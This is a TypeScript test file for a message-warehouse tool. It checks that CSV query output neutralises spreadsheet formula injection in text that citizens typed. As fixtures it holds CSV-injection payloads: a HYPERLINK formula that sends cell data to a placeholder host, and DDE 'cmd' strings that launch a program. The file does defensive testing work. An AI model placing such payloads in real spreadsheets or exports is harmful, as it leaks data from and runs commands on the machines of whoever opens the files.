import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { createMemoryLogger } from '../../src/core/logger.ts';
import { openContext } from '../../src/db/context.ts';
import { importMessageFile } from '../../src/import/import-runner.ts';
import { neutraliseFormula } from '../../src/query/result-format.ts';
import { tempDir } from '../helpers.ts';
import { buzonSync } from '../reliability/crash-harness.ts';

test('neutraliseFormula shows = + - @ tab and CR cells as text and leaves numbers alone', () => {
  assert.equal(neutraliseFormula('=HYPERLINK("http://x.example/?d="&A1,"ver")'), `'=HYPERLINK("http://x.example/?d="&A1,"ver")`);
  assert.equal(neutraliseFormula('+52 55 •••• 5678 =1+1'), `'+52 55 •••• 5678 =1+1`);
  assert.equal(neutraliseFormula('-2+3+cmd|\' /C calc\'!A0'), `'-2+3+cmd|' /C calc'!A0`);
  assert.equal(neutraliseFormula('@SUM(1+1)*cmd'), `'@SUM(1+1)*cmd`);
  assert.equal(neutraliseFormula('\t=1'), `'\t=1`);
  assert.equal(neutraliseFormula('\r=1'), `'\r=1`);
  for (const plain of ['-12', '+3.5', '0', 'hola = adios', '']) assert.equal(neutraliseFormula(plain), plain);
});

test('buzon query --format csv neutralises formulas that citizens typed into their messages', async () => {
  const dir = tempDir();
  const db = join(dir, 'w.duckdb');
  const file = join(dir, 'm.csv');
  writeFileSync(file, [
    'message_id,sender,sent_at,direction,body',
    'm1,+52 55 1234 5678,2026-09-14T21:05:31-06:00,in,"=HYPERLINK(""http://x.example"",""premio"")"',
    'm2,+52 55 1234 5678,2026-09-14T21:06:31-06:00,in,@SUM(A1:A9)',
    'm3,+52 55 1234 5678,2026-09-14T21:07:31-06:00,in,"-1+cmd|\' /C calc\'!A0"',
    'm4,+52 55 1234 5678,2026-09-14T21:08:31-06:00,in,"\t=1+1"',
    'm5,+52 55 1234 5678,2026-09-14T21:09:31-06:00,in,sin fórmula',
    '',
  ].join('\n'));
  const context = await openContext({ db, logger: createMemoryLogger() });
  await importMessageFile(context, file);
  context.warehouse.close();
  const out = buzonSync(['--db', db, 'query', "SELECT message_id, body, -3 AS n FROM messages ORDER BY message_id", '--format', 'csv']);
  assert.equal(out.code, 0, out.stderr);
  assert.equal(out.stdout, [
    'message_id,body,n',
    `m1,"'=HYPERLINK(""http://x.example"",""premio"")",-3`,
    `m2,'@SUM(A1:A9),-3`,
    `m3,'-1+cmd|' /C calc'!A0,-3`,
    `m4,'\t=1+1,-3`,
    'm5,sin fórmula,-3',
    '',
  ].join('\n'));
});
